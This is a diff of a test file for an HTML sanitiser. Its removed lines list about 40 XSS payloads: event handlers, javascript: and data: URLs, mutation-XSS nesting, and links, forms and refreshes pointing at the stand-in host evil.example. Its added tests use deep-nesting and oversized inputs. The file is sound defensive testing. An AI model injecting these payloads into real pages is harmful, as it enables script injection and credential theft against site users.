@@ -1,74 +1,64 @@
 import { sanitised } from '../../../plugin/index';
-
-/** From the cheat sheets of OWASP and PortSwigger and from published bypasses of sanitisers. */
-const attacks = [
-  '<script>alert(1)</script>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="javascript:alert(1)">',
-  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
-  '<svg onload=alert(1)>',
-  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
-  '<svg><style><img src=x onerror=alert(1)></style></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href="java\nscript:alert(1)">x</a>',
-  '<a href=" &#14; javascript:alert(1)">x</a>',
-  '<a href="&#106;avascript:alert(1)">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="//evil.example">x</a>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<object data="javascript:alert(1)"></object>',
-  '<embed src="javascript:alert(1)">',
-  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
-  '<style>body{background:url(javascript:alert(1))}</style>',
-  '<p style="background:url(javascript:alert(1));position:fixed">x</p>',
-  '<link rel=stylesheet href="https://evil.example/x.css">',
-  '<meta http-equiv=refresh content="0;url=https://evil.example">',
-  '<base href="https://evil.example/">',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<template><script>alert(1)</script></template>',
-  '<details open ontoggle=alert(1)>',
-  '<video><source onerror=alert(1)></video>',
-  '<body onload=alert(1)>',
-  '<p id=location name=cookie>x</p>',
-  '<input autofocus onfocus=alert(1)>',
-  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
-  '<xmp><p title="</xmp><svg onload=alert(1)>">',
-  '<plaintext><script>alert(1)</script>',
-  '<a onclick=alert(1) href="https://ok.example" target=_blank>x</a>',
-];
+import { verifies } from '../../support/verifies';
+import { article, vectors } from './xss-corpus';
 
 describe('markup of an article', () => {
-  test.each(attacks)('%s is made harmless', (attack) => {
-    const clean = sanitised(attack);
+  test('there are enough attacks, each with a name of its own', () => {
+    expect(vectors.length).toBeGreaterThanOrEqual(60);
+    expect(new Set(vectors.map(({ name }) => name)).size).toBe(vectors.length);
+  });
+
+  test.each(vectors.map(({ name, markup }) => [name, markup] as const))('%s is made harmless', (_name, markup) => {
+    verifies('R25');
+    const clean = sanitised(markup);
     expect(clean).not.toMatch(
-      /<(script|svg|math|iframe|object|embed|form|input|button|style|link|meta|base|template|noscript|textarea|video|body|xmp|plaintext)\b/i,
+      /<\/?(script|svg|math|iframe|frame|object|embed|form|input|button|select|option|style|link|meta|base|template|noscript|textarea|title|video|audio|body|xmp|plaintext|x-)/i,
     );
+    expect(clean).not.toMatch(/<[!?]|\0/);
     // What stands inside quotes is text.
-    expect(clean.replace(/"[^"]*"/g, '""')).not.toMatch(/<[^>]*\s(on\w+|style|srcdoc|formaction|name|target)\s*=/i);
-    expect(clean).not.toMatch(/(href|src)\s*=\s*["']?\s*(javascript|vbscript|data|\/\/)/i);
+    expect(clean.replace(/"[^"]*"/g, '""')).not.toMatch(/<[^>]*\s(on\w+|style|srcdoc|srcset|formaction|name|target|ping|is|popover)\s*=/i);
+    expect(clean).not.toMatch(/(href|src|cite)\s*=\s*["']?\s*(javascript|vbscript|data|blob|\/\/|[/\\]*\\)/i);
+    expect(clean).not.toMatch(/\sid="(?!content-)/);
     expect(sanitised(clean)).toBe(clean);
   });
 
   test('what an article needs stays', () => {
-    const article =
-      '<h2 id="content-part">Über uns</h2><p class="lead">A <strong>b</strong> <em>c</em><br /><code>d</code></p><ul><li>e</li></ul><ol start="3"><li>f</li></ol>' +
-      '<table><thead><tr><th scope="col">g</th></tr></thead><tbody><tr><td colspan="2">h</td></tr></tbody></table>' +
-      '<figure><img src="/media/2026/11/x.png" alt="i" width="10" /><figcaption>j</figcaption></figure><blockquote cite="https://x.example/">k</blockquote><pre>l</pre>';
     expect(sanitised(article)).toBe(article);
   });
 
+  test('an image whose address is refused is gone', () => {
+    expect(sanitised('<p>a<img src="data:image/png;base64,x" alt="b"> c<img alt="d"></p>')).toBe('<p>a c</p>');
+  });
+
   test('links are marked as not ours, ids cannot stand for globals', () => {
-    expect(sanitised('<a href="https://x.example">x</a>')).toBe('<a href="https://x.example" rel="noopener nofollow ugc">x</a>');
+    expect(sanitised('<a href="https://x.example" rel="opener">x</a>')).toBe(
+      '<a href="https://x.example" rel="noopener nofollow ugc">x</a>',
+    );
     expect(sanitised('<h2 id="location">x</h2>')).toBe('<h2 id="content-location">x</h2>');
   });
 
-  test('what would take seconds to parse is refused at once', () => {
-    expect(() => sanitised('<div>'.repeat(50_000))).toThrow(/nested/);
-    expect(() => sanitised('x'.repeat(2_000_001))).toThrow(/2 MB/);
+  test.each([
+    ['elements', '<div>'.repeat(50_000)],
+    ['elements with end tags of others between them', '<div></b>'.repeat(50_000)],
+    ['elements that a comment seems to close', '<div><!-- </div> -->'.repeat(50_000)],
+  ])('too deep %s are refused at once', (_name, markup) => {
+    expect(() => sanitised(markup)).toThrow(/nested more than 200/);
   });
+
+  test('elements beyond the depth that articles need lose their tags and keep their text', () => {
+    const clean = sanitised(`${'<div>'.repeat(300)}x${'</div>'.repeat(300)}`);
+    expect(clean).toBe(`${'<div>'.repeat(200)}x${'</div>'.repeat(200)}`);
+  });
+
+  test('what is too large is refused, and so are attributes beyond counting', () => {
+    expect(() => sanitised('x'.repeat(2_000_001))).toThrow(/2 MB/);
+    expect(() => sanitised(`<p ${Array.from({ length: 101 }, (_, i) => `a${i}`).join(' ')}>`)).toThrow(/more than 100 attributes/);
+  });
+
+  test.each(['<a', '<a ', '<p x="', '<!--', '<![CDATA[', '&', '<', '</p>', '<svg>x</svg>', '<noscript>', '<script>', '<li>', '<td>'])(
+    '1 MB of %j are cleaned in bounded time',
+    (unit) => {
+      expect(() => sanitised(unit.repeat(1_000_000 / unit.length))).not.toThrow(RangeError);
+    },
+  );
 });
